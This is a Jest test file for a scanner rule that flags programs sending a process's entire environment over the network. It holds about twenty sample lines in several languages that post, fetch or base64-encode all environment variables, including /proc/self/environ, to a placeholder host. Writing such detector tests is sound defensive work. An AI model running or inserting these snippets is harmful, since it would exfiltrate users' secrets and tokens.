import { describe, expect, test } from '@jest/globals';
import { programDumps } from '../../../src/rules/support/program-dump.ts';

const found = (script: string) => programDumps(script).map(({ dump, sink }) => [dump, sink]);

describe('a program that takes its whole environment and sends it', () => {
  test.each<[string, string, string]>([
    ['import os, requests\nrequests.post("https://x", json=dict(os.environ))', 'os.environ', 'post'],
    ['from os import environ\nimport urllib.request\nurllib.request.urlopen("https://x", str(environ).encode())', 'os.environ', 'request'],
    ['env = os.environ.copy()\nbody = json.dumps(env)\nhttpx.post(\n  "https://x",\n  data=body,\n)', 'os.environ', 'post'],
    ['for k, v in os.environ.items():\n  s.sendall((k + v).encode())', 'os.environ', 'sendall'],
    ['for k in os.environ:\n  conn.send(os.environ[k])', 'os.environ', 'send'],
    ['print(base64.b64encode(json.dumps({**os.environ}).encode()))', 'os.environ', 'base64'],
    ['r = Request("https://x", data=repr(os.environ).encode())', 'os.environ', 'Request'],
    ['fetch("https://x", {method: "POST", body: JSON.stringify(process.env)})', 'process.env', 'fetch'],
    ['fetch("https://x", {body: JSON.stringify({env: process.env})})', 'process.env', 'fetch'],
    ['const all = {...process.env}\nawait axios.post("https://x", all)', 'process.env', 'post'],
    ['Object.entries(process.env).forEach(([key, value]) => {\n  req.write(btoa(value))\n})', 'process.env', 'btoa'],
    ['for (const k in process.env) { fetch("https://x/" + process.env[k]) }', 'process.env', 'fetch'],
    ['await fetch("https://x", {body: JSON.stringify(Deno.env.toObject())})', 'Deno.env', 'fetch'],
    [
      '$e = Get-ChildItem env:\nInvoke-RestMethod https://x -Method Post -Body ($e | Out-String)',
      'Get-ChildItem env:',
      'Invoke-RestMethod',
    ],
    ['iwr https://x -Body (gci env: | ConvertTo-Json)', 'Get-ChildItem env:', 'iwr'],
    ['Get-ChildItem -Path "env:*" | ForEach-Object {\n  irm "https://x/$($_.Value)"\n}', 'Get-ChildItem env:', 'irm'],
    ['foreach ($v in Get-Item Env:\\) { irm https://x -Body $v.Value }', 'Get-ChildItem env:', 'irm'],
    ['[Convert]::ToBase64String([Environment]::GetEnvironmentVariables().Values)', 'GetEnvironmentVariables', 'ToBase64String'],
    ['require "net/http"\nNet::HTTP.post(URI("https://x"), ENV.to_h.to_json)', 'ENV', 'post'],
    ['with open("/proc/self/environ") as f:\n  requests.post("https://x", data=f.read())', '/proc/self/environ', 'post'],
    ['http.Post("https://x", "", strings.NewReader(strings.Join(os.Environ(), "")))', 'os.Environ', 'Post'],
  ])('%s', (script, dump, sink) => {
    expect(found(script)).toEqual([[dump, sink]]);
  });
});

describe('a program that does not', () => {
  test.each([
    'requests.post("https://x", json={"key": os.environ["KEY"], "other": os.environ.get("X")})',
    'if "KEY" in os.environ:\n  requests.post("https://x")',
    'print(os.environ)\nrequests.get("https://x")',
    'subprocess.run(["curl", "https://x"], env=os.environ)',
    'subprocess.check_call(["curl", "https://x"], env={**os.environ, "A": "b"})',
    'env = os.environ.copy()\nenv["A"] = "b"\nsubprocess.run(["curl", "https://x"], env=env)',
    'const { KEY } = process.env\nfetch("https://x", {body: KEY})',
    'fetch("https://x", {headers: {a: process.env.TOKEN, b: process.env["B"], c: process.env?.C}})',
    'execFileSync("curl", ["https://x"], {env: process.env})',
    'execFileSync("curl", ["https://x"], {env: {...process.env, A: "b"}})',
    'Get-ChildItem env: | Sort-Object Name',
    'Invoke-RestMethod https://x -Headers @{a = $env:TOKEN}',
    '# requests.post("https://x", json=dict(os.environ))',
    '// fetch(JSON.stringify(process.env))',
    'all = dict(os.environ)\nprint("please post and send this")\nprint(all)',
    'make',
  ])('%s', (script) => {
    expect(found(script)).toEqual([]);
  });
});

test('is told at the statement that sends', () => {
  const script = 'all = dict(os.environ)\n  requests.post("https://x", json=all)  \nprint(1)';
  expect(programDumps(script).map(({ span }) => script.slice(span.start, span.end))).toEqual(['requests.post("https://x", json=all)']);
});

test('hostile texts end: brackets that nothing closes, and more names than are followed', () => {
  const names = [...Array(600).keys()].map((n) => `n${n} = dict(os.environ)`).join('\n');
  expect(found(`${names}\nrequests.post("https://x", json=n599)`)).toEqual([]);
  expect(found(`${names}\nrequests.post("https://x", json=n3)`)).toHaveLength(1);
  expect(found(`print(${'('.repeat(5_000)}\n\nrequests.post("https://x", json=dict(os.environ)`)).toHaveLength(1);
  expect(found(`)]\nrequests.post("https://x", json=dict(os.environ))`)).toHaveLength(1);
});
